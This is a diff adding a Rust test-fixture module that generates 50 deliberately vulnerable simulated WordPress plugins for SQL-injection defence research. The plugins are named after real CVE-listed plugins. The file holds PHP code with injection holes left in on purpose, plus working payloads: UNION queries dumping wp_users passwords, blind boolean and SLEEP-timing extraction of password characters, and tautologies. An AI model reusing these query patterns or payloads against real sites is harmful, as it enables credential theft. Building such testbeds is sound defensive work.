@@ -1,0 +1,540 @@
+//! The 50 vulnerable plugins of Table IV, with the attack-type mix of
+//! Table I (15 union-based, 17 standard-blind, 14 double-blind, 4
+//! tautology).
+//!
+//! Each plugin is generated from one of a handful of *vulnerability
+//! shapes* observed in the real plugins (numeric `WHERE` concatenation,
+//! quoted `LIKE` search with `stripslashes`, base64-decoded tracking
+//! parameters, silent counters, boolean result pages). Every plugin gets
+//! its own table seeded with visible rows plus one `HIDDEN-<slug>` row;
+//! union exploits instead leak `wp_users.user_pass`
+//! ([`crate::wordpress::SECRET_PASSWORD`]). Exploits are *working*
+//! exploits: `crate::verify` runs them against the unprotected server and
+//! checks the observable effect.
+
+use joza_db::{Database, Value};
+
+/// Attack-type taxonomy of Table I.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+pub enum AttackType {
+    /// Replace the query's result with attacker-chosen rows.
+    UnionBased,
+    /// Boolean-observable differential (found / not found).
+    StandardBlind,
+    /// Timing-observable differential (`SLEEP`).
+    DoubleBlind,
+    /// `1 OR 1=1`-style predicate subversion.
+    Tautology,
+}
+
+impl std::fmt::Display for AttackType {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        let s = match self {
+            AttackType::UnionBased => "Union Based",
+            AttackType::StandardBlind => "Standard Blind",
+            AttackType::DoubleBlind => "Double Blind",
+            AttackType::Tautology => "Tautology",
+        };
+        f.write_str(s)
+    }
+}
+
+/// A working exploit with its verification recipe.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Exploit {
+    /// Response must contain `leak_marker`; the benign response must not.
+    Leak {
+        /// The attack value for the vulnerable parameter.
+        payload: String,
+        /// Secret text that only an attack can surface.
+        leak_marker: String,
+    },
+    /// Responses for the two payloads must differ.
+    BooleanDiff {
+        /// Condition-true payload.
+        true_payload: String,
+        /// Condition-false payload.
+        false_payload: String,
+    },
+    /// Virtual DB time must differ by at least `min_delay_ms`.
+    TimingDiff {
+        /// Payload that triggers `SLEEP`.
+        slow_payload: String,
+        /// Payload that does not.
+        fast_payload: String,
+        /// Minimum observable delay.
+        min_delay_ms: u64,
+    },
+}
+
+impl Exploit {
+    /// The payload recorded in the paper's tables (the attack form).
+    pub fn primary_payload(&self) -> &str {
+        match self {
+            Exploit::Leak { payload, .. } => payload,
+            Exploit::BooleanDiff { true_payload, .. } => true_payload,
+            Exploit::TimingDiff { slow_payload, .. } => slow_payload,
+        }
+    }
+}
+
+/// One vulnerable plugin of the testbed.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct VulnPlugin {
+    /// Display name (Table IV).
+    pub name: String,
+    /// Route slug.
+    pub slug: String,
+    /// Version (Table IV).
+    pub version: String,
+    /// CVE/OSVDB identifier, empty when the table lists none.
+    pub cve: String,
+    /// Attack classification (Table I).
+    pub attack_type: AttackType,
+    /// The vulnerable parameter name.
+    pub param: String,
+    /// Whether the vulnerable parameter travels by POST.
+    pub via_post: bool,
+    /// PHP-subset source.
+    pub source: String,
+    /// A benign value for the parameter.
+    pub benign_value: String,
+    /// The working exploit.
+    pub exploit: Exploit,
+    /// The plugin's private table name.
+    pub table: String,
+    /// Whether the exploit payload travels as a PHP *array key*
+    /// (`param[PAYLOAD]=…`) rather than a parameter value — the Drupal
+    /// CVE-2014-3704 delivery channel.
+    pub payload_in_array_key: bool,
+}
+
+impl VulnPlugin {
+    /// Creates and seeds this plugin's tables.
+    pub fn setup_tables(&self, db: &mut Database) {
+        if self.table.is_empty() {
+            return;
+        }
+        db.create_table(&self.table, &["id", "cat", "name", "info", "hidden"]);
+        for i in 1..=5i64 {
+            db.insert_row(
+                &self.table,
+                vec![
+                    Value::Int(i),
+                    Value::Int(1 + (i % 2)),
+                    format!("{}-item-{i}", self.slug).into(),
+                    format!("info about item {i}").into(),
+                    Value::Int(0),
+                ],
+            );
+        }
+        db.insert_row(
+            &self.table,
+            vec![
+                Value::Int(99),
+                Value::Int(9),
+                format!("HIDDEN-{}", self.slug).into(),
+                "private".into(),
+                Value::Int(1),
+            ],
+        );
+    }
+
+    /// The marker a tautology against this plugin's table can leak.
+    pub fn hidden_marker(&self) -> String {
+        format!("HIDDEN-{}", self.slug)
+    }
+
+    /// Whether this plugin base64-decodes its vulnerable parameter before
+    /// use (detected from the benign value shape). Attack tooling must
+    /// mutate *inside* the encoding envelope.
+    pub fn decodes_base64(&self) -> bool {
+        joza_phpsim::builtins::base64_decode(&self.benign_value)
+            .is_some_and(|d| !d.is_empty() && d.parse::<i64>().is_ok())
+            && self.benign_value.len().is_multiple_of(4)
+            && self.benign_value.len() >= 4
+    }
+}
+
+fn slugify(name: &str) -> String {
+    name.to_ascii_lowercase()
+        .chars()
+        .map(|c| if c.is_ascii_alphanumeric() { c } else { '-' })
+        .collect::<String>()
+        .split('-')
+        .filter(|s| !s.is_empty())
+        .collect::<Vec<_>>()
+        .join("-")
+}
+
+/// Vulnerability shapes instantiated across the corpus.
+enum Shape {
+    /// `WHERE id=<input>` numeric concatenation; dumps k columns.
+    UnionNumeric { cols: usize },
+    /// Quoted `LIKE '%<input>%'` search with `stripslashes`.
+    UnionQuotedSearch,
+    /// Boolean page: "found" / "none".
+    BlindBoolean,
+    /// Boolean page over a quoted, `stripslashes`d parameter.
+    BlindBooleanQuoted,
+    /// Silent counter: output never varies; only time does.
+    DoubleBlindSilent,
+    /// Row listing subvertible by `OR 1=1`.
+    TautologyListing,
+    /// Base64-decoded tracking parameter into a numeric context (the one
+    /// original exploit NTI misses, per Table II/IV).
+    TautologyBase64,
+}
+
+fn make(name: &str, version: &str, cve: &str, shape: Shape, idx: usize) -> VulnPlugin {
+    let slug = slugify(name);
+    let table = format!("p{idx}_{}", slug.replace('-', "_"));
+    let secret_leak = crate::wordpress::SECRET_PASSWORD.to_string();
+    match shape {
+        Shape::UnionNumeric { cols } => {
+            let (collist, union_sel) = match cols {
+                1 => ("name", "user_pass".to_string()),
+                2 => ("name, info", "user_login, user_pass".to_string()),
+                _ => ("id, name, info", "NULL, user_login, user_pass".to_string()),
+            };
+            let echoes = (0..cols.clamp(1, 3))
+                .map(|i| format!("$row[{i}]"))
+                .collect::<Vec<_>>()
+                .join(", \" \", ");
+            let source = format!(
+                r#"
+                $id = $_GET['item'];
+                $r = mysql_query("SELECT {collist} FROM {table} WHERE id=" . $id . " AND hidden=0");
+                if ($r) {{
+                    while ($row = mysql_fetch_row($r)) {{ echo "<li>", {echoes}, "</li>"; }}
+                }} else {{
+                    echo "db error: ", mysql_error();
+                }}
+                "#
+            );
+            VulnPlugin {
+                name: name.into(),
+                slug,
+                version: version.into(),
+                cve: cve.into(),
+                attack_type: AttackType::UnionBased,
+                param: "item".into(),
+                via_post: false,
+                source,
+                benign_value: "2".into(),
+                exploit: Exploit::Leak {
+                    payload: format!("-1 UNION SELECT {union_sel} FROM wp_users-- -"),
+                    leak_marker: secret_leak,
+                },
+                table,
+                payload_in_array_key: false,
+            }
+        }
+        Shape::UnionQuotedSearch => {
+            let source = format!(
+                r#"
+                $s = trim(stripslashes($_GET['q']));
+                $r = mysql_query("SELECT name, info FROM {table} WHERE hidden=0 AND name LIKE '%" . $s . "%' ORDER BY id");
+                if ($r) {{
+                    while ($row = mysql_fetch_row($r)) {{ echo "<li>", $row[0], " ", $row[1], "</li>"; }}
+                }} else {{
+                    echo "db error: ", mysql_error();
+                }}
+                "#
+            );
+            VulnPlugin {
+                name: name.into(),
+                slug,
+                version: version.into(),
+                cve: cve.into(),
+                attack_type: AttackType::UnionBased,
+                param: "q".into(),
+                via_post: false,
+                source,
+                benign_value: "item".into(),
+                exploit: Exploit::Leak {
+                    payload: "zzz%' UNION SELECT user_login, user_pass FROM wp_users-- -".into(),
+                    leak_marker: secret_leak,
+                },
+                table,
+                payload_in_array_key: false,
+            }
+        }
+        Shape::BlindBoolean => {
+            let source = format!(
+                r#"
+                $id = $_GET['id'];
+                $r = mysql_query("SELECT name FROM {table} WHERE hidden=0 AND id=" . $id);
+                if ($r && mysql_num_rows($r) > 0) {{ echo "found"; }} else {{ echo "none"; }}
+                "#
+            );
+            VulnPlugin {
+                name: name.into(),
+                slug,
+                version: version.into(),
+                cve: cve.into(),
+                attack_type: AttackType::StandardBlind,
+                param: "id".into(),
+                via_post: false,
+                source,
+                benign_value: "2".into(),
+                exploit: Exploit::BooleanDiff {
+                    true_payload: "2 AND 1=1".into(),
+                    false_payload: "2 AND 1=0".into(),
+                },
+                table,
+                payload_in_array_key: false,
+            }
+        }
+        Shape::BlindBooleanQuoted => {
+            let source = format!(
+                r#"
+                $n = trim(stripslashes($_GET['name']));
+                $r = mysql_query("SELECT id FROM {table} WHERE hidden=0 AND name='" . $n . "'");
+                if ($r && mysql_num_rows($r) > 0) {{ echo "exists"; }} else {{ echo "missing"; }}
+                "#
+            );
+            let item = format!("{}-item-1", slugify(name));
+            VulnPlugin {
+                name: name.into(),
+                slug,
+                version: version.into(),
+                cve: cve.into(),
+                attack_type: AttackType::StandardBlind,
+                param: "name".into(),
+                via_post: false,
+                source,
+                benign_value: item.clone(),
+                exploit: Exploit::BooleanDiff {
+                    true_payload: format!(
+                        "{item}' AND ASCII(SUBSTRING((SELECT user_pass FROM wp_users WHERE ID=1),1,1))>32 AND 'a'='a"
+                    ),
+                    false_payload: format!(
+                        "{item}' AND ASCII(SUBSTRING((SELECT user_pass FROM wp_users WHERE ID=1),1,1))>200 AND 'a'='a"
+                    ),
+                },
+                table,
+                payload_in_array_key: false,
+            }
+        }
+        Shape::DoubleBlindSilent => {
+            let source = format!(
+                r#"
+                $id = $_GET['track'];
+                $r = mysql_query("SELECT COUNT(*) FROM {table} WHERE hidden=0 AND id=" . $id);
+                echo "OK";
+                "#
+            );
+            VulnPlugin {
+                name: name.into(),
+                slug,
+                version: version.into(),
+                cve: cve.into(),
+                attack_type: AttackType::DoubleBlind,
+                param: "track".into(),
+                via_post: false,
+                source,
+                benign_value: "1".into(),
+                exploit: Exploit::TimingDiff {
+                    slow_payload:
+                        "1 AND IF(ASCII(SUBSTRING((SELECT user_pass FROM wp_users WHERE ID=1),1,1))>32,SLEEP(2),0)"
+                            .into(),
+                    fast_payload:
+                        "1 AND IF(ASCII(SUBSTRING((SELECT user_pass FROM wp_users WHERE ID=1),1,1))>200,SLEEP(2),0)"
+                            .into(),
+                    min_delay_ms: 1500,
+                },
+                table,
+                payload_in_array_key: false,
+            }
+        }
+        Shape::TautologyListing => {
+            let source = format!(
+                r#"
+                $cat = $_GET['cat'];
+                $r = mysql_query("SELECT name, info FROM {table} WHERE hidden=0 AND cat=" . $cat);
+                if ($r) {{
+                    while ($row = mysql_fetch_assoc($r)) {{ echo "<li>", $row['name'], "</li>"; }}
+                }} else {{
+                    echo "db error: ", mysql_error();
+                }}
+                "#
+            );
+            let marker = format!("HIDDEN-{}", slugify(name));
+            VulnPlugin {
+                name: name.into(),
+                slug,
+                version: version.into(),
+                cve: cve.into(),
+                attack_type: AttackType::Tautology,
+                param: "cat".into(),
+                via_post: false,
+                source,
+                benign_value: "1".into(),
+                exploit: Exploit::Leak { payload: "1 OR 1=1".into(), leak_marker: marker },
+                table,
+                payload_in_array_key: false,
+            }
+        }
+        Shape::TautologyBase64 => {
+            let source = format!(
+                r#"
+                $raw = $_GET['track'];
+                $data = base64_decode($raw);
+                $r = mysql_query("SELECT name, info FROM {table} WHERE hidden=0 AND cat=" . $data);
+                if ($r) {{
+                    while ($row = mysql_fetch_assoc($r)) {{ echo "<li>", $row['name'], "</li>"; }}
+                }} else {{
+                    echo "tracked";
+                }}
+                "#
+            );
+            let marker = format!("HIDDEN-{}", slugify(name));
+            VulnPlugin {
+                name: name.into(),
+                slug,
+                version: version.into(),
+                cve: cve.into(),
+                attack_type: AttackType::Tautology,
+                param: "track".into(),
+                via_post: false,
+                source,
+                // base64("1") — benign category id.
+                benign_value: "MQ==".into(),
+                exploit: Exploit::Leak {
+                    // base64("1 OR 1=1")
+                    payload: "MSBPUiAxPTE=".into(),
+                    leak_marker: marker,
+                },
+                table,
+                payload_in_array_key: false,
+            }
+        }
+    }
+}
+
+/// Builds the 50-plugin corpus with Table I's attack-type distribution and
+/// Table IV's plugin names.
+pub fn corpus() -> Vec<VulnPlugin> {
+    use Shape::*;
+    // (name, version, cve, shape). Distribution: 15 union (10 numeric of
+    // varying width + 5 quoted-search), 17 standard blind (13 numeric + 4
+    // quoted), 14 double blind, 4 tautology (3 listing + 1 base64 —
+    // AdRotate, the NTI miss).
+    let spec: Vec<(&str, &str, &str, Shape)> = vec![
+        // --- Tautology (4) ---
+        ("A to Z Category Listing", "1.3", "OSVDB-86069", TautologyListing),
+        ("AdRotate", "3.6.6", "CVE-2011-4671", TautologyBase64),
+        ("Community Events", "1.2.1", "OSVDB-74573", TautologyListing),
+        ("WP eCommerce", "3.8.6", "OSVDB-75590", TautologyListing),
+        // --- Union based (15) ---
+        ("Allow PHP in posts and pages", "2.0.0", "OSVDB-75252", UnionNumeric { cols: 1 }),
+        ("Contus HD FLV Player", "1.3", "", UnionNumeric { cols: 2 }),
+        ("Count per Day", "2.17", "OSVDB-75598", UnionNumeric { cols: 3 }),
+        ("Event Registration plugin", "5.43", "", UnionNumeric { cols: 2 }),
+        ("Eventify", "1.7.1", "OSVDB-86245", UnionNumeric { cols: 1 }),
+        ("File Groups", "1.1.2", "OSVDB-74572", UnionNumeric { cols: 2 }),
+        ("IP-Logger", "3.0", "", UnionNumeric { cols: 3 }),
+        ("Link Library", "5.2.1", "OSVDB-84579", UnionQuotedSearch),
+        ("OdiHost Newsletter", "1.0", "OSVDB-74575", UnionNumeric { cols: 2 }),
+        ("post highlights", "2.2", "", UnionQuotedSearch),
+        ("ProPlayer", "4.7.7", "", UnionNumeric { cols: 1 }),
+        ("SH Slideshow", "3.1.4", "OSVDB-74813", UnionQuotedSearch),
+        ("Social Slider", "5.6.5", "OSVDB-74421", UnionNumeric { cols: 2 }),
+        ("WP Forum Server", "1.7.8", "CVE-2012-6625", UnionQuotedSearch),
+        ("Zotpress", "4.4", "", UnionQuotedSearch),
+        // --- Standard blind (17) ---
+        ("Easy Contact Form Lite", "1.0.7", "", BlindBoolean),
+        ("FireStorm Real Estate Plugin", "2.06", "", BlindBoolean),
+        ("GD Star Rating", "1.9.10", "OSVDB-83466", BlindBoolean),
+        ("iCopyright", "1.1.4", "", BlindBoolean),
+        ("KNR Author List Widget", "2.0.0", "", BlindBoolean),
+        ("MM Duplicate", "1.2", "", BlindBoolean),
+        ("Profiles", "2.0.RC1", "", BlindBoolean),
+        ("SearchAutocomplete", "1.0.8", "", BlindBoolean),
+        ("UMP Polls", "1.0.3", "", BlindBoolean),
+        ("VideoWhisper Video Presentation", "1.1", "", BlindBoolean),
+        ("Facebook Opengraph Meta", "1.0", "", BlindBoolean),
+        ("Paypal Donation Plugin", "0.12", "", BlindBoolean),
+        ("WP Audio Gallery Playlist", "0.11", "", BlindBoolean),
+        ("WP Bannerize", "2.8.7", "OSVDB-76658", BlindBooleanQuoted),
+        ("WP FileBase", "0.2.9", "OSVDB-75308", BlindBooleanQuoted),
+        ("WP Menu Creator", "1.1.7", "OSVDB-74578", BlindBooleanQuoted),
+        ("yolink Search", "1.1.4", "OSVDB-74832", BlindBooleanQuoted),
+        // --- Double blind (14) ---
+        ("Advertiser", "1.0", "", DoubleBlindSilent),
+        ("Ajax Gallery", "3.0", "", DoubleBlindSilent),
+        ("Couponer", "1.2", "", DoubleBlindSilent),
+        ("Crawl Rate Tracker", "2.02", "", DoubleBlindSilent),
+        ("Facebook Promotions", "1.3.3", "", DoubleBlindSilent),
+        ("Global Content Blocks", "1.2", "OSVDB-74577", DoubleBlindSilent),
+        ("Js-appointment", "1.5", "OSVDB-74804", DoubleBlindSilent),
+        ("Media Library Categories", "1.0.6", "", DoubleBlindSilent),
+        ("Mingle Forum", "1.0.31", "OSVDB-75791", DoubleBlindSilent),
+        ("MyStat", "2.6", "", DoubleBlindSilent),
+        ("Paid Downloads", "2.01", "OSVDB-86247", DoubleBlindSilent),
+        ("PureHTML", "1.0.0", "", DoubleBlindSilent),
+        ("SCORM Cloud", "1.0.6.6", "OSVDB-74804", DoubleBlindSilent),
+        ("WP DS FAQ", "1.3.2", "OSVDB-74574", DoubleBlindSilent),
+    ];
+    spec.into_iter()
+        .enumerate()
+        .map(|(i, (name, version, cve, shape))| make(name, version, cve, shape, i))
+        .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use joza_phpsim::parser::parse_program;
+
+    #[test]
+    fn corpus_has_50_unique_plugins() {
+        let c = corpus();
+        assert_eq!(c.len(), 50);
+        let mut slugs: Vec<&str> = c.iter().map(|p| p.slug.as_str()).collect();
+        slugs.sort_unstable();
+        slugs.dedup();
+        assert_eq!(slugs.len(), 50, "duplicate slugs");
+        let mut tables: Vec<&str> = c.iter().map(|p| p.table.as_str()).collect();
+        tables.sort_unstable();
+        tables.dedup();
+        assert_eq!(tables.len(), 50, "duplicate tables");
+    }
+
+    #[test]
+    fn every_source_parses() {
+        for p in corpus() {
+            assert!(
+                parse_program(&p.source).is_ok(),
+                "plugin {} source fails to parse",
+                p.name
+            );
+        }
+    }
+
+    #[test]
+    fn setup_tables_seeds_hidden_row() {
+        let mut db = Database::new();
+        let p = &corpus()[0];
+        p.setup_tables(&mut db);
+        let t = db.table(&p.table).unwrap();
+        assert_eq!(t.len(), 6);
+        let hidden = t.rows().iter().filter(|r| r[4] == Value::Int(1)).count();
+        assert_eq!(hidden, 1);
+    }
+
+    #[test]
+    fn slugify_behaviour() {
+        assert_eq!(slugify("A to Z Category Listing"), "a-to-z-category-listing");
+        assert_eq!(slugify("Js-appointment"), "js-appointment");
+        assert_eq!(slugify("WP eCommerce"), "wp-ecommerce");
+    }
+
+    #[test]
+    fn primary_payloads_nonempty() {
+        for p in corpus() {
+            assert!(!p.exploit.primary_payload().is_empty(), "{}", p.name);
+        }
+    }
+}
